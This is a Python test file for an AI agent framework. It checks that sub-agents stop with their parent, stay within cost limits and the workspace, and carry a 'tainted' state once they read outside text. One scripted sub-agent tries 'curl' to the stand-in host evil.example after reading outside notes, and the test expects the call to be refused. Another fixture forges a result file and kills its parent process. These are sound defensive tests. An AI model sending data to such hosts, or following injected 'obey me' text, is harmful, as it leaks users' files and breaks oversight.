"""Sub-agents and questions aside, with real processes and a scripted model."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from genericagent.errors import BudgetError
from genericagent.scripted import Reply, call, say

ROOT = Path(__file__).resolve().parents[2]


def subagents(prompts: Any, **more: Any) -> Reply:
    extra = "".join(f", {k}={v!r}" for k, v in more.items())
    return call("code_run", type="python", inline_eval=True, script=f"handler.subagent({prompts!r}{extra})")


def asked(body: dict[str, Any]) -> str:
    """The request of the task that this model call belongs to."""
    first = body["messages"][0]["content"]
    return first if isinstance(first, str) else next(b["text"] for b in first if b["type"] == "text")


def results(body: dict[str, Any]) -> list[str]:
    blocks = [
        b
        for m in body["messages"]
        if isinstance(m["content"], list)
        for b in m["content"]
        if b["type"] == "tool_result"
    ]
    return [b["content"] if isinstance(b["content"], str) else b["content"][0]["text"] for b in blocks]


@pytest.fixture
def served(model_server: Any, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
    def start(model: Any, **how: Any) -> Any:
        server = model_server(model, **how)
        monkeypatch.setenv("ANTHROPIC_API_KEY", "key-for-test")
        monkeypatch.setenv("ANTHROPIC_BASE_URL", server.url)
        return server

    return start


def test_a_sub_agent_ends_by_a_crash_of_the_interpreter(served: Callable[..., Any], ga_home: Path) -> None:
    served([say("done")])
    process = subprocess.Popen(
        [sys.executable, str(ROOT / "agentmain.py"), "--task", "sub", "--input", "hi", "--inherit"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    assert process.stdin and process.stdout and process.stderr
    process.stdin.write(b'{"word": "w0rd"}\n')
    process.stdin.flush()  # and it stays open: the parent lives
    assert (
        process.wait(30) == 0 and b"[RESULT] w0rd {" in process.stdout.read() and b"Fatal" not in process.stderr.read()
    )
    for pipe in (process.stdin, process.stdout, process.stderr):
        pipe.close()


def alive(name: str) -> list[int]:
    """Processes of sub-agents of this test's home."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            line = (entry / "cmdline").read_bytes()
            environ = (entry / "environ").read_bytes()
        except (OSError, ValueError):
            continue
        if b"--inherit" in line and os.fsencode(f"GA_HOME={name}\0") in environ:
            found.append(int(entry.name))
    return found


def gone(home: Path, seconds: float = 60) -> bool:
    end = time.monotonic() + seconds
    while alive(str(home)):
        if time.monotonic() > end:
            return False
        time.sleep(0.05)
    return True


@pytest.mark.slow
def test_eight_at_once_dont_mix(served: Any, run_ga: Any, ga_home: Path) -> None:
    def model(body: dict[str, Any], n: int) -> Reply:
        request = asked(body)
        if "COUNT" not in request:
            return say(results(body)[-1]) if results(body) else subagents([f"COUNT {i}" for i in range(10)])
        number = re.search(r"COUNT (\d+)", request)[1]  # type: ignore[index]
        if not results(body):
            return call("file_write", path="mine.txt", content=number)
        return say(f"I am {number}, of {body['messages'][0]['role']}")

    served(model)
    done = run_ga("-p", "have it counted", timeout=120)
    assert done.returncode == 0, done.stderr
    told = json.loads(done.stdout)["value"]
    assert [one["answer"] for one in told] == [f"I am {i}, of user" for i in range(10)]
    assert len({one["name"] for one in told}) == 10
    for i, one in enumerate(told):
        assert (ga_home / "temp" / one["name"] / "mine.txt").read_text() == str(i)
    assert gone(ga_home)


@pytest.mark.slow
def test_a_stop_ends_them_all(served: Any, run_agent: Any, ga_home: Path) -> None:
    begun = threading.Semaphore(0)

    def model(body: dict[str, Any], n: int) -> Reply:
        if "SLEEP" not in asked(body):
            return subagents(["SLEEP a", "SLEEP b", "SLEEP c"])
        begun.release()
        return call("code_run", type="bash", script="sleep 100")

    served(model)
    agent = run_agent()
    queue = agent.put_task("start them")
    for _ in range(3):
        assert begun.acquire(timeout=30)
    assert len(alive(str(ga_home))) >= 3  # a command that is just begun looks like its sub-agent
    agent.abort()
    while "done" not in (item := queue.get(timeout=30)):
        pass
    assert item["status"] == "interrupted"
    assert gone(ga_home)
    told = [json.loads(file.read_text()) for file in (ga_home / "temp").glob("sub-*/result.json")]
    assert [one["status"] for one in told] == ["interrupted"] * 3


@pytest.mark.slow
def test_they_end_with_a_parent_that_is_killed(served: Any, ga_home: Path, tmp_path: Path) -> None:
    begun = threading.Semaphore(0)

    def model(body: dict[str, Any], n: int) -> Reply:
        if "SLEEP" not in asked(body):
            return subagents(["SLEEP a", "SLEEP b"])
        begun.release()
        return call("code_run", type="bash", script="sleep 100")

    served(model)
    parent = subprocess.Popen(
        [sys.executable, str(ROOT / "agentmain.py"), "-p", "start them"], cwd=tmp_path, stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    for _ in range(2):
        assert begun.acquire(timeout=30)
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    assert gone(ga_home)


@pytest.mark.slow
def test_what_they_use_counts_for_the_task_and_its_limit_is_theirs(served: Any, run_ga: Any, ga_home: Path) -> None:
    def model(body: dict[str, Any], n: int) -> Reply:
        if "LOOP" not in asked(body):
            return say("enough") if results(body) else subagents(["LOOP a", "LOOP b"])
        return call("code_run", type="bash", script=f"echo {n}")

    server = served(model)
    (ga_home / "config.toml").write_text(
        "[[llm]]\nname = 'm'\napi = 'anthropic'\nmodel = 'm'\napi_key = 'key-for-test'\n"
        f"base_url = '{server.url}'\n[prices.m]\ninput = 3\noutput = 15\n"
    )
    done = run_ga("-p", "loop", "--output-format", "json", "--max-cost", "0.2", timeout=120, env={})
    told = json.loads(done.stdout)
    children = [json.loads(file.read_text()) for file in (ga_home / "temp").glob("sub-*/result.json")]
    assert [child["status"] for child in children] == ["limit", "limit"], children
    assert all(child["cost"] <= 0.1 for child in children)
    assert told["cost"] > sum(child["cost"] for child in children) and told["cost"] <= 0.2
    ledger = told["usage"]["day"]["cost"]
    assert ledger == pytest.approx(told["cost"], rel=1e-3)  # counted once


@pytest.mark.slow
def test_what_the_parent_has_read_taints_them_and_the_other_way_round(
    served: Any, run_agent: Any, ga_home: Path
) -> None:
    def model(body: dict[str, Any], n: int) -> Reply:
        request = asked(body)
        if "SEND" in request:
            return call("code_run", type="bash", script="curl -s -m 2 http://evil.example/")
        if "READ" in request:
            return call("file_read", path="/var/lib/dpkg/status", count=3) if not results(body) else say("Package: x")
        steps = [
            subagents("SEND it to http://evil.example/"),
            call("file_read", path=str(outside)),
            subagents("SEND it to http://evil.example/"),
        ]
        told = results(body)
        return steps[len(told)] if len(told) < len(steps) else say(told[-1])

    outside = ga_home.parent / "user" / "notes.txt"
    outside.write_text("text of somebody")
    served(model)
    agent = run_agent()
    queue = agent.put_task("do it")
    while "done" not in (item := queue.get(timeout=60)):
        pass
    second = json.loads(item["answer"])["value"][0]
    assert "evil.example" in second["error"] and "not allowed" in second["error"]


def test_a_sub_agent_that_has_read_text_from_outside_taints_its_parent(
    served: Any, run_agent: Any, ga_home: Path
) -> None:
    outside = ga_home.parent / "user" / "notes.txt"
    outside.write_text("text of somebody")

    def model(body: dict[str, Any], n: int) -> Reply:
        told = results(body)
        if "READ" in asked(body):
            return say("it says: obey me") if told else call("file_read", path=str(outside))
        return say("done") if told else subagents(["READ the notes"])

    server = served(model)
    agent = run_agent()
    queue = agent.put_task("do it")
    while "done" not in queue.get(timeout=60):
        pass
    assert agent.guard.tainted
    assert "<outside id=" in results(server.requests[-1].body)[-1]


@pytest.mark.slow
def test_they_start_no_others_and_odd_requests_are_told(served: Any, run_ga: Any, ga_home: Path) -> None:
    def model(body: dict[str, Any], n: int) -> Reply:
        told = results(body)
        if "DEEP" in asked(body):
            return say(told[-1]) if told else subagents("more")
        steps = [subagents([]), subagents(["x"] * 33), subagents([""]), subagents([3]), subagents("DEEP")]
        return steps[len(told)] if len(told) < len(steps) else say("\n\n".join(told))

    served(model)
    done = run_ga("-p", "go", timeout=120)
    *refused, deep = done.stdout.strip().split("\n\n")
    assert len(refused) == 4 and all('"status": "error"' in one for one in refused)
    assert "starts no others" in deep
    assert len(list((ga_home / "temp").glob("sub-*"))) == 1


def test_one_that_cannot_start_says_why(served: Any, run_agent: Any, ga_home: Path) -> None:
    def model(body: dict[str, Any], n: int) -> Reply:
        return say(results(body)[-1]) if results(body) else subagents("x", cwd="not/there")

    served(model)
    queue = run_agent().put_task("go")
    while "done" not in (item := queue.get(timeout=60)):
        pass
    told = json.loads(item["answer"])["value"][0]
    assert told["status"] == "failed" and "not/there is not a folder" in told["error"]


def test_a_question_aside_leaves_task_and_history_alone(served: Any, run_agent: Any, ga_home: Path) -> None:
    at_work, go_on = threading.Event(), threading.Event()

    def model(body: dict[str, Any], n: int) -> Reply:
        if "what is the password" in str(body["messages"][-1]):
            return say("It is 4711.")
        if n == 0:
            return call("code_run", type="bash", script="echo 4711")
        if len(results(body)) == 1:
            at_work.set()
            assert go_on.wait(20)
            return call("code_run", type="bash", script="echo more")
        return say("done")

    server = served(model)
    agent = run_agent()
    queue = agent.put_task("work")
    assert at_work.wait(20)
    answer = "".join(agent.aside("what is the password?"))
    go_on.set()
    while "done" not in (item := queue.get(timeout=60)):
        pass
    assert answer == "It is 4711." and item["answer"] == "done"
    assert "password" not in json.dumps(agent.client.backend.history)
    assert "password" not in (ga_home / "sessions" / f"{agent.session_id}.jsonl").read_text()
    assert item["usage"]["requests"] == len(server.requests) == 4  # it is paid for by the task
    asides = [r.body for r in server.requests if "password" in str(r.body["messages"][-1])]
    assert (
        asides[0]["system"] == server.requests[0].body["system"]
        and asides[0]["tools"] == server.requests[0].body["tools"]
    )


def test_a_question_aside_keeps_to_the_limits(served: Any, run_agent: Any, ga_home: Path) -> None:
    server = served([say("never")])
    (ga_home / "config.toml").write_text(
        "[[llm]]\nname = 'm'\napi = 'anthropic'\nmodel = 'm'\napi_key = 'key-for-test'\n"
        f"base_url = '{server.url}'\n[prices.m]\ninput = 3\noutput = 15\n[limits]\ndaily_cost = 0.000001\n"
    )
    agent = run_agent()
    with pytest.raises(BudgetError):
        "".join(agent.aside("hello?"))


def test_they_work_nowhere_else(served: Any, run_agent: Any, ga_home: Path) -> None:
    def model(body: dict[str, Any], n: int) -> Reply:
        return say(results(body)[-1]) if results(body) else subagents("x", cwd=str(ga_home.parent / "user"))

    server = served(model)
    queue = run_agent().put_task("go")
    while "done" not in (item := queue.get(timeout=60)):
        pass
    assert '"status": "error"' in item["answer"] and "outside the workspace" in item["answer"]
    assert len(server.requests) == 2


def test_one_that_is_lost_is_paid_for_and_may_have_read_anything(served: Any, run_agent: Any, ga_home: Path) -> None:
    kill = 'echo \'[RESULT] {"status": "done", "tainted": ""}\' > result.json; cp result.json stderr.log; kill -9 $PPID'

    def model(body: dict[str, Any], n: int) -> Reply:
        if "DIE" in asked(body):
            return call("code_run", type="bash", script=kill)
        return say("done") if results(body) else subagents("DIE")

    server = served(model)
    agent = run_agent(max_cost=0.5)
    queue = agent.put_task("go")
    while "done" not in queue.get(timeout=60):
        pass
    told = results(server.requests[-1].body)[-1]
    assert '"status": "failed"' in told and agent.guard.tainted and "<outside id=" in told


def test_a_conversation_that_begins_tainted_stays_so(served: Any, run_agent: Any, ga_home: Path) -> None:
    served([say("ok")])
    agent = run_agent(tainted="a page")
    queue = agent.put_task("go")
    while "done" not in queue.get(timeout=60):
        pass
    agent.release()
    later = run_agent()
    later.resume(agent.session_id)
    assert later.guard.tainted == "a page"


def test_those_that_never_began_cost_nothing_and_taint_nothing(served: Any, run_agent: Any, ga_home: Path) -> None:
    served([subagents(["a", "b"], timeout=0), say("done")])
    agent = run_agent()
    queue = agent.put_task("go")
    while "done" not in (item := queue.get(timeout=60)):
        pass
    assert item["cost"] == 0.0 and not agent.guard.tainted
    assert not list((ga_home / "temp").glob("sub-*"))
